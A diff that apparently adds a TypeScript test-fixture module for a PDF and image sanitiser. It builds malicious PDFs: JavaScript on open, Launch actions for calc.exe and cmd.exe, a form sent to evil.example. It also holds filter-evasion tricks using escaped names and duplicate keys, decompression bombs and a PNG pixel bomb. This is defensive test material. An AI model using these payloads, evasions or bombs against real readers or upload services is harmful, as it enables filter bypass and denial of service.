@@ -1,0 +1,261 @@
+import { createCipheriv, createHash } from 'node:crypto'
+import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib'
+
+/** One object: its text, or a stream's dictionary entries and body. */
+export type PdfPart = string | { entries: string; body: Buffer }
+
+export type PdfPlan = {
+  /** Entries added to the catalog and to the one page. */
+  catalog?: string
+  page?: string
+  /** Objects from number 5 on; a plan may also replace 1 (catalog), 2 (pages), 3 (page) and 4 (its content). */
+  objects?: Record<number, PdfPart>
+  /** Puts every object that is no stream into one object stream. */
+  isPacked?: boolean
+  /** AES-256, with this password to open it; '' asks for none. */
+  password?: string
+}
+
+/** A PDF of one page, written object by object as planned, with a cross-reference stream. */
+export const aPdf = ({ catalog = '', page = '', objects = {}, isPacked = false, password }: PdfPlan = {}): Buffer => {
+  const parts = new Map<number, PdfPart>(
+    Object.entries({
+      1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
+      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R /Resources << >> ${page} >>`,
+      4: { entries: '', body: Buffer.from('1 0 0 rg 20 20 160 260 re f') },
+      ...objects,
+    }).map(([number, part]) => [Number(number), part]),
+  )
+  const encryption = password === undefined ? undefined : encryptionOf(password)
+  const next = Array.from(parts.keys()).reduce((most, number) => Math.max(most, number), 0) + 1
+  const packed = isPacked ? Array.from(parts.keys()).filter((number) => typeof parts.get(number) === 'string') : []
+  const indices = new Map(packed.map((number, index) => [number, index]))
+  if (isPacked) parts.set(next, pack(packed.map((number) => [number, String(parts.get(number))])))
+  return write(parts, indices, next, encryption)
+}
+
+const pack = (objects: [number, string][]): PdfPart => {
+  let offset = 0
+  const header = objects.map(([number, text]) => {
+    const entry = `${number} ${offset}`
+    offset += Buffer.byteLength(text) + 1
+    return entry
+  })
+  const first = `${header.join(' ')}\n`
+  return {
+    entries: `/Type /ObjStm /N ${objects.length} /First ${first.length} /Filter /FlateDecode`,
+    body: deflateSync(`${first}${objects.map(([, text]) => text).join('\n')}\n`),
+  }
+}
+
+const write = (parts: Map<number, PdfPart>, packed: Map<number, number>, container: number, encryption?: Encryption): Buffer => {
+  const chunks: Buffer[] = []
+  let size = 0
+  const append = (...texts: (string | Buffer)[]) => {
+    for (const chunk of texts.map((text) => Buffer.from(text))) {
+      chunks.push(chunk)
+      size += chunk.length
+    }
+  }
+  const offsets = new Map<number, number>()
+  append('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
+  for (const [number, part] of parts) {
+    if (packed.has(number)) continue
+    offsets.set(number, size)
+    if (typeof part === 'string') {
+      append(`${number} 0 obj\n${part}\nendobj\n`)
+      continue
+    }
+    const body = encryption ? encryption.encrypt(part.body) : part.body
+    append(`${number} 0 obj\n<< ${part.entries} /Length ${body.length} >>\nstream\n`, body, '\nendstream\nendobj\n')
+  }
+  const last = container + 1
+  offsets.set(last, size)
+  const rows = Array.from({ length: last + 1 }, (_, number) => row(offsets.get(number), packed.get(number), container))
+  const table = Buffer.concat(rows)
+  append(
+    `${last} 0 obj\n<< /Type /XRef /Size ${last + 1} /W [1 4 2] /Root 1 0 R /Length ${table.length} `,
+    `${encryption ? `/Encrypt ${encryption.dictionary} ` : ''}/ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] >>\n`,
+    'stream\n',
+    table,
+    `\nendstream\nendobj\nstartxref\n${offsets.get(last)}\n%%EOF\n`,
+  )
+  return Buffer.concat(chunks)
+}
+
+const row = (offset: number | undefined, index: number | undefined, container: number): Buffer => {
+  const bytes = Buffer.alloc(7)
+  if (index !== undefined) {
+    bytes[0] = 2
+    bytes.writeUInt32BE(container, 1)
+    bytes.writeUInt16BE(index, 5)
+  } else if (offset !== undefined) {
+    bytes[0] = 1
+    bytes.writeUInt32BE(offset, 1)
+  }
+  return bytes
+}
+
+type Encryption = { dictionary: string; encrypt: (body: Buffer) => Buffer }
+
+/** The standard security handler, revision 5 (AES-256), with fixed keys: the same plan makes the same bytes. */
+const encryptionOf = (password: string): Encryption => {
+  const key = sha256('file key')
+  const [checkSalt, keySalt] = [Buffer.from('checkslt'), Buffer.from('key-salt')]
+  const user = Buffer.concat([sha256(password, checkSalt), checkSalt, keySalt])
+  const owner = Buffer.concat([sha256('owner', checkSalt, user), checkSalt, keySalt])
+  const permissions = Buffer.from('fcffffffffffffff5461646200000000', 'hex')
+  const zero = Buffer.alloc(16)
+  const entries = [
+    ['U', user],
+    ['UE', aes('cbc', sha256(password, keySalt), zero, key)],
+    ['O', owner],
+    ['OE', aes('cbc', sha256('owner', keySalt, user), zero, key)],
+    ['Perms', aes('ecb', key, null, permissions)],
+  ].map(([name, bytes]) => `/${String(name)} <${Buffer.from(bytes as Buffer).toString('hex')}>`)
+  return {
+    dictionary:
+      '<< /Filter /Standard /V 5 /R 5 /Length 256 /P -4 /StmF /StdCF /StrF /StdCF ' +
+      `/CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV3 /Length 32 >> >> ${entries.join(' ')} >>`,
+    encrypt: (body) => {
+      const padding = 16 - (body.length % 16)
+      return Buffer.concat([zero, aes('cbc', key, zero, Buffer.concat([body, Buffer.alloc(padding, padding)]))])
+    },
+  }
+}
+
+const sha256 = (...parts: (string | Buffer)[]): Buffer =>
+  parts.reduce((hash, part) => hash.update(part), createHash('sha256')).digest()
+
+const aes = (mode: 'cbc' | 'ecb', key: Buffer, iv: Buffer | null, plain: Buffer): Buffer => {
+  const cipher = createCipheriv(`aes-256-${mode}`, key, iv).setAutoPadding(false)
+  return Buffer.concat([cipher.update(plain), cipher.final()])
+}
+
+const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
+const widget = (action: string) => `/Annots [<< /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A ${action} >>]`
+
+/** Every kind of active content that is refused, by name. */
+export const ACTIVE_PLANS: Record<string, PdfPlan> = {
+  'a script run on opening': { catalog: `/OpenAction ${SCRIPT}` },
+  'a script in the name tree': { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', objects: { 5: SCRIPT } },
+  'a script run when a page is shown': {
+    page: '/AA << /O << /S /JavaScript /JS 5 0 R >> >>',
+    objects: { 5: { entries: '', body: Buffer.from('app.alert(1)') } },
+  },
+  'a script after a harmless action': { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT} >>` },
+  'a script whose kind hides behind a reference': {
+    catalog: '/OpenAction << /S 5 0 R /JS 6 0 R >>',
+    objects: { 5: '/JavaScript', 6: '(app.alert\\(1\\))' },
+  },
+  'a script under a second key of the same name': { catalog: '/OpenAction << /S /GoTo /S /JavaScript /JS (x) >>' },
+  'a rendition with a script': { page: widget('<< /S /Rendition /JS (app.alert\\(1\\)) >>') },
+  'a program to launch': { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' },
+  'a Windows program to launch': { page: widget('<< /S /Launch /Win << /F (cmd.exe) >> >>') },
+  'a form that is sent': { page: widget('<< /S /SubmitForm /F (https://evil.example/) >>') },
+  'data to import': { page: widget('<< /S /ImportData /F (data.fdf) >>') },
+  'rich media': { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' },
+  'an XFA form': {
+    catalog: '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>',
+    objects: { 5: { entries: '', body: Buffer.from('<template/>') } },
+  },
+}
+
+/** What looks like it and is none: each must be accepted. */
+export const HARMLESS_PLANS: Record<string, PdfPlan> = {
+  'a page to open at': { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' },
+  'links within, to other files and to the web': {
+    page:
+      '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) >> >> ' +
+      '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (two.pdf) /D [0 /Fit] >> >> ' +
+      '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Named /N /NextPage >> >>]',
+  },
+  'additional actions that only go somewhere': { page: '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>' },
+  'a form to fill in': {
+    catalog: '/AcroForm << /Fields [5 0 R] /XFA null >>',
+    page: '/Annots [5 0 R]',
+    objects: { 5: '<< /Subtype /Widget /FT /Tx /T (name) /V (Ada) /Rect [0 0 9 9] /F 4 /P 3 0 R >>' },
+  },
+  'an embedded file': {
+    catalog: '/Names << /EmbeddedFiles << /Names [(a.pdf) << /Type /Filespec /F (a.pdf) /EF << /F 5 0 R >> >>] >> >>',
+    objects: {
+      5: { entries: '/Type /EmbeddedFile', body: Buffer.from(`9 0 obj ${SCRIPT} endobj stream x endstream 8 0 obj ${SCRIPT}`) },
+    },
+  },
+  'an empty script tree': { catalog: '/Names << /JavaScript << /Names [] >> >>' },
+  'fonts, destinations and tags with such names': {
+    catalog:
+      '/Dests << /JavaScript [3 0 R /Fit] /Launch [3 0 R /Fit] /S [3 0 R /Fit] >> /StructTreeRoot 5 0 R ' +
+      '/OpenAction << /S /GoTo /D /JavaScript >>',
+    page: '/Resources << /Font << /JS 7 0 R /SubmitForm 7 0 R >> >>',
+    objects: {
+      5: '<< /Type /StructTreeRoot /K 6 0 R /RoleMap << /JavaScript /P /Launch /H1 >> >>',
+      6: '<< /Type /StructElem /S /JavaScript /P 5 0 R /K [<< /S /Launch /P 6 0 R >>] >>',
+      7: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    },
+  },
+  'a text that speaks of it': {
+    objects: {
+      4: { entries: '', body: Buffer.from(`BT (${SCRIPT}) Tj ET % << /S /JavaScript /JS (x) >>`) },
+      5: `<< /Title (A book on << /S /JavaScript /JS \\(x\\) >>) /Note ((nested) /S /Launch /F) >>`,
+    },
+  },
+}
+
+/** The same document with its telling names written in escapes: /JS as /#4a#53. */
+export const inEscapes = (plan: PdfPlan): PdfPlan => ({
+  ...plan,
+  catalog: escapeNames(plan.catalog ?? ''),
+  page: escapeNames(plan.page ?? ''),
+  objects: Object.fromEntries(
+    Object.entries(plan.objects ?? {}).map(([number, part]) => [
+      number,
+      typeof part === 'string' ? escapeNames(part) : part,
+    ]),
+  ),
+})
+
+const escapeNames = (text: string): string =>
+  text.replace(
+    /\/(JavaScript|JS|S|Launch|SubmitForm|ImportData|RichMedia|Rendition|XFA)\b/g,
+    (_, name: string) => `/${Array.from(name, (letter) => `#${letter.charCodeAt(0).toString(16)}`).join('')}`,
+  )
+
+/** A zlib stream of `mebibytes` of spaces, a thousandth of that in size and made in no time. */
+export const bombOf = (mebibytes: number): Buffer => {
+  const block = deflateRawSync(Buffer.alloc(1024 * 1024, ' '), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
+  return Buffer.concat([Buffer.from('789c', 'hex'), ...Array<Buffer>(mebibytes).fill(block), Buffer.from('0300', 'hex')])
+}
+
+const packedContent = (body: Buffer): PdfPart => ({ entries: '/Filter /FlateDecode', body })
+
+/** A page whose content inflates to 1 GiB. */
+export const bombPdf = (): Buffer => aPdf({ objects: { 4: packedContent(bombOf(1024)) } })
+
+/** The same in pieces that look harmless each: only who draws the page meets the whole. */
+export const piecewiseBombPdf = (): Buffer =>
+  aPdf({ page: `/Contents [${'4 0 R '.repeat(8)}]`, objects: { 4: packedContent(bombOf(250)) } })
+
+/** A page that takes minutes to draw. */
+export const slowPdf = (): Buffer =>
+  aPdf({ objects: { 4: packedContent(deflateSync('0 0 m 200 300 150 0 0 300 c f '.repeat(200_000))) } })
+
+/** A picture of 30,000 x 30,000 black pixels in 109 KB. */
+export const bombPng = (): Buffer => {
+  const header = Buffer.from('00007530000075300100000000', 'hex')
+  const chunks: [string, Buffer][] = [
+    ['IHDR', header],
+    ['IDAT', bombOf(108)],
+    ['IEND', Buffer.alloc(0)],
+  ]
+  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...chunks.map(([type, data]) => pngChunk(type, data))])
+}
+
+const pngChunk = (type: string, data: Buffer): Buffer => {
+  const body = Buffer.concat([Buffer.from(type), data])
+  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)]
+  length.writeUInt32BE(data.length)
+  checksum.writeUInt32BE(crc32(body))
+  return Buffer.concat([length, body, checksum])
+}
